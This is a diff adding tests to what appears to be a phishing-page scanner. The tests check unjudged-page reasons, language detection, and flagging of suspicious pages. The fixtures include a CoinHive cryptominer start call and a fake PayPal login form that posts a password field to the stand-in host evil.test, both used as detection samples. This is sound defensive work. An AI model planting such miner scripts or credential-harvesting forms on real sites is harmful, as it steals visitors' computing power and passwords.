@@ -91,6 +91,78 @@ describe("what is kept of a scan", () => {
   const documentWith = (more: Partial<ScanCapture>, jarm: string | null = null) =>
     keptOf(ID, { ...capture("<title>Page</title>", {}), ...more }, { ...judging, jarm }).document.Data;
 
+  it("says why nothing was judged", () => {
+    const of = (more: Partial<ScanCapture>) =>
+      keptOf(ID, { ...capture("<title>Page</title>", {}), ...more }, judging).document;
+    const answered = (status: number | null, mimeType: string | null) => [{ ...request({}), status, mimeType }];
+    const unjudged = [
+      of({ requests: answered(404, "text/html") }),
+      of({ requests: answered(200, "application/pdf"), frames: [] }),
+      of({ requests: answered(200, "text/html"), frames: [], endedBy: "time" }),
+      of({ requests: answered(null, null), frames: [] }),
+    ];
+    expect(unjudged.map(({ Catphish }) => Catphish)).toEqual([null, null, null, null]);
+    expect(unjudged.map(({ Data }) => Data.NotJudged)).toEqual([
+      "the page answered 404",
+      "what came is no page but application/pdf",
+      "the scan ended by its limit of time before the page could be read",
+      "nothing came",
+    ]);
+    expect(keptOf(ID, capture(LOGIN, {}), judging).document).toMatchObject({
+      Catphish: { Malicious: false },
+      Data: { NotJudged: null },
+    });
+  });
+
+  it("names what mines cryptocurrency, as a technology and a reason", () => {
+    const mining = `<title>Flowers</title><p>Tulips and roses for all of you.</p>
+      <script>new CoinHive.Anonymous('dJlIvQ0aBcDeFgHiJkLmNoPqRsTuVwXy').start()</script>`;
+    const { Data, Catphish } = keptOf(ID, capture(mining, {}), judging).document;
+    expect(Data.Technologies).toContainEqual(
+      expect.objectContaining({ Name: "CoinHive", Categories: ["Cryptominer"] }),
+    );
+    expect(Catphish?.reasons.map(({ Code }) => Code)).toContain("mines");
+    const report = keptOf(ID, capture("<pre>new CoinHive.Anonymous('x') was the miner of 2017</pre>", {}), judging);
+    expect(report.document.Data.Technologies).toEqual([]);
+  });
+
+  it("reads what stands in shadow roots and in frames of the own site as the page's", () => {
+    const [main] = capture("<title>Hi</title><app-login></app-login>", {}).frames;
+    if (main === undefined) throw new Error("There is no document");
+    const html = `<h1>PayPal</h1><form action="https://evil.test/x"><input name="pass" type="password"></form>`;
+    const frame = (url: string, text: string) => ({
+      ...main,
+      frameId: url,
+      parentFrameId: "main",
+      url,
+      html: "",
+      text,
+    });
+    const frames = [
+      { ...main, text: "", shadow: { html, text: "PayPal\nLog in" } },
+      frame("https://login.example.net/inner", "Inner words"),
+      frame("https://ads.example.org/", "Words of others"),
+    ];
+    const { Data, Catphish } = keptOf(ID, { ...capture("", {}), frames }, judging).document;
+    expect(Data.Text).toBe("PayPal\nLog in\nInner words");
+    expect(Data.Forms).toContainEqual(expect.objectContaining({ Host: "evil.test", Fields: ["password pass"] }));
+    expect(Catphish?.reasons.map(({ Code }) => Code)).toEqual(
+      expect.arrayContaining(["asks for a password", "brand's heading", "posts elsewhere"]),
+    );
+    expect(Catphish?.reasons.map(({ Code }) => Code)).not.toContain("form in a frame");
+  });
+
+  it("tells the language of the text from that which the page names", () => {
+    const of = (html: string, text: string) => {
+      const given = capture(html, {});
+      return documentWith({ frames: given.frames.map((frame) => ({ ...frame, text })) });
+    };
+    const russian = "Введите пароль для входа в личный кабинет, и вы получите доступ";
+    expect(of("<p>", russian)).toMatchObject({ Language: null, TextLanguage: "ru" });
+    expect(of(`<html lang="en">`, russian)).toMatchObject({ Language: "en", TextLanguage: "ru" });
+    expect(of(`<html lang="en">`, "4711")).toMatchObject({ Language: "en", TextLanguage: null });
+  });
+
   it("has the forms of frames, with the frame that they stand in", () => {
     const [main] = capture("<form action=/search><input name=q></form>", {}).frames;
     const frame = {
